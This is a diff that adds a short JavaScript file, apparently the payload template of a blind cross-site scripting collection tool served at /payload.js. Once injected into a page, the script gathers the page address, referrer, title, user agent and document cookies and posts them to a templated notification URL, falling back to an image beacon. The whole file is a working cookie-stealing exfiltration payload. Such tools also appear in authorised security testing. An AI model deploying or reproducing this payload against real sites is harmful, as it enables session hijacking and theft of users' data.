@@ -0,0 +1,16 @@
+// Blind XSS collection script, served by /payload.js and /payloads/collect.
+(function () {
+  var notify = {{notify_url}};
+  var data = new URLSearchParams();
+  data.append("url", location.href);
+  data.append("origin", location.origin);
+  data.append("referrer", document.referrer);
+  data.append("title", document.title);
+  data.append("cookies", document.cookie);
+  data.append("user_agent", navigator.userAgent);
+  try {
+    fetch(notify, { method: "POST", mode: "no-cors", body: data });
+  } catch (e) {
+    new Image().src = notify + "&" + data.toString();
+  }
+})();